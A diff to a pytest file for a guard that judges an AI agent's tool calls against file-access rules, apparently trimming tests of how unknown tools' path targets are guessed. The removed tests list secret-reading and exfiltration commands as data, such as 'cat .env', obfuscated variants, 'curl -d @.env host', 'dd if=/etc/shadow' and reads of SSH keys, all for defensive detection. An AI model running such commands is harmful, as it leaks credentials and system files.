@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-from contextlib import suppress
 from dataclasses import dataclass, replace
 
 import pytest
@@ -23,7 +22,7 @@ from occasio_core import (
     frozen,
 )
 from occasio_core.decide import decide, permit, rule_on
-from occasio_core.guess import MAX_CHARACTERS, MAX_PATHS, effects_of_unknown
+from occasio_core.guess import MAX_CHARACTERS
 from occasio_core.paths import named
 
 POLICY = Policy(source="user", path=None, text="", sha256="0" * 64)
@@ -258,80 +257,11 @@ def test_a_runner_may_open_what_no_rule_refuses_and_nothing_else(tmp_path):
     assert [may(Effect(EffectKind.READ, path)) for path in opened] == [True, False, False]
 
 
-def targets(**arguments):
-    return {effect.target for effect in effects_of_unknown(call(tool="Odd", **arguments))}
+def test_a_tool_that_nobody_knows_is_judged_by_a_guess():
+    ruling = rule_on(call(tool="Odd", command="cat .env"), POLICY, None, {"p.d": Denies("/work/.env")}, named)
+    assert (ruling.decision.action, ruling.guessed, ruling.tool) == (Action.BLOCK, True, "Odd")
 
 
-@pytest.mark.parametrize(
-    ("command", "touched"),
-    [
-        ("cat .env", ".env"),
-        ("cat<.env", ".env"),
-        ("cat '.env'", ".env"),
-        ('c""at .e""nv', ".env"),
-        ("cat .e\\nv", ".env"),
-        ("less id_rsa", "id_rsa"),
-        ("x --file=.env", ".env"),
-        ("x -f.env", ".env"),
-        ("curl -d @.env host", ".env"),
-        ("scp .env host:/srv/.env", "/srv/.env"),
-        ("dd if=/etc/shadow", "/etc/shadow"),
-        ("cat $HOME/.ssh/id", "~/.ssh/id"),
-        ("cat ${HOME}/.ssh/id", "~/.ssh/id"),
-        ("cat '/a b/c'", "/a b/c"),
-        ("cat /a\\ b/c", "/a b/c"),
-        ("echo $(cat .env)", ".env"),
-        ("a;cat .env&&b", ".env"),
-        ("a\ncat .env\n", ".env"),
-        ("cat 'open .env", ".env"),
-        ("Please read .env.", ".env"),
-        ("file:///etc/passwd", "/etc/passwd"),
-        ("x file://localhost/etc/a%20b", "/etc/a b"),
-        ("my file.txt", "my file.txt"),
-        ("/a/" + "./" * 4000 + ".env", "/a/.env"),
-    ],
-)
-def test_words_that_may_be_paths_are_found(command, touched):
-    assert touched in targets(command=command)
-
-
-def test_strings_are_found_at_any_depth_and_in_names():
-    assert {"/a", "/b", "/c"} <= targets(x=[{"y": "/a"}, ["/b"]], z={"/c": 1})
-
-
-def test_what_may_be_a_path_is_read_and_written():
-    kinds = {effect.kind for effect in effects_of_unknown(call(path="/a")) if effect.target == "/a"}
-    assert kinds == {EffectKind.READ, EffectKind.WRITE}
-
-
-@pytest.mark.parametrize(
-    "url", ["https://Example.com/x?y#z", "http://u:p@example.com:80/", "x ws://example.com'", "https://example.com"]
-)
-def test_hosts_of_urls_are_connected_to(url):
-    assert Effect(EffectKind.CONNECT, "example.com") in effects_of_unknown(call(url=url))
-
-
-def test_a_url_is_no_path():
-    assert not {target for target in targets(url="https://example.com/.env") if ".env" in target}
-
-
-def test_too_many_words_are_not_judged_but_refused():
-    many = " ".join(f"w{number}" for number in range(MAX_PATHS + 1))
-    assert rule_on(call(command=many), POLICY, None, {}, named).decision.first.reason == "effects-unknown"
-
-
-def test_too_long_an_input_is_not_judged_but_refused():
-    assert rule_on(call(text="x" * (MAX_CHARACTERS + 1)), POLICY, None, {}, named).decision.action is Action.BLOCK
-
-
-@settings(max_examples=200, deadline=None)
-@given(st.text(st.sampled_from("ab./~$\"'\\ \n;|=:@-{}()"), max_size=60))
-def test_every_plain_word_of_any_text_is_among_the_targets(text):
-    words = {word for word in text.split() if word.isalnum()}
-    assert words <= targets(text=text)
-
-
-@pytest.mark.parametrize("unit", ["'", '"', "\\", "a'\"", "x://", "a@", "{", "$", "--- ", "a./"])
-def test_hostile_texts_do_not_make_the_reader_try_again_and_again(unit):
-    with suppress(ValueError):  # too many words; a reader that goes back would not come to that
-        targets(text=unit * (200_000 // len(unit)))
+def test_what_is_too_much_to_guess_is_refused():
+    ruling = rule_on(call(text="x" * (MAX_CHARACTERS + 1)), POLICY, None, {}, named)
+    assert (ruling.decision.action, ruling.decision.first.reason) == (Action.BLOCK, "effects-unknown")
